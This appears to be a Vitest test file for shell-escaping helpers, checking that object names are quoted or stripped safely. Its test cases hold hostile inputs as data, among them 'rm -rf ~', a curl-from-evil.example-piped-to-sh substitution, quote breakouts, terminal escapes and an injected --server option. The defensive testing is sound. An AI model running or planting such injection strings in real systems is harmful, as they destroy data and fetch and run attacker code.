import { expect, test } from 'vitest'
import { shellQuoted, shellWord } from './shell'

test.each([
  ['a name of an object, as it is', 'checkout-prod', 'checkout-prod'],
  ['a name with dots', 'aws.example.org', 'aws.example.org'],
  ['a second command', 'a; rm -rf ~', "'a; rm -rf ~'"],
  ['a command in place of its output', 'a$(curl evil.example|sh)`id`', "'a$(curl evil.example|sh)`id`'"],
  ['quotes', "a'; id; '", `'a'\\''; id; '\\'''`],
  ['an end of a line', 'a\nid\r\u2028id', 'aidid'],
  ['a key of a terminal', 'a\u001b[200~\u0003', "'a[200~'"],
  ['letters that are shown in another order', 'a\u202Eb\u2066', 'ab'],
  ['an option', '--server=https://evil.example', 'server=https://evil.example'],
  ['an option behind what is left out', '\u0000--server=x', 'server=x'],
  ['nothing', '', "''"],
])('%s', (_, name, word) => {
  expect(shellWord(name)).toBe(word)
})

test('a patch keeps its lines in quotes', () => {
  expect(shellQuoted(`[\n"it's"]`)).toBe(`'[\n"it'\\''s"]'`)
})
